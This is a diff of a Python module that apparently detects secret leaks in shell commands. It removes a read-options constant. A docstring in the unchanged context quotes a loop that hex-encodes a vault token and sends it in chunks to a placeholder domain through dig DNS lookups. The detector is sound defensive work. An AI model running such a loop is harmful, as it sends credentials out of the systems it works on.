@@ -356,9 +356,6 @@ def _inner_leak(a, inner, depth: int) -> tuple[str, Cmd] | None:
     return None
 
 
-_READ_OPTS = frozenset({"-d", "-n", "-N", "-p", "-t", "-u", "-a", "-i"})
-
-
 def _loop_leak(a, w, depth: int) -> tuple[str, Cmd] | None:
     """A loop's variable in `w` whose items are a secret: `for c in $(vault kv get -field=token x | xxd -p | fold -w
     60); do dig +short "$c.x.example"; done` (the list a substitution that prints one, also through an encoder or a
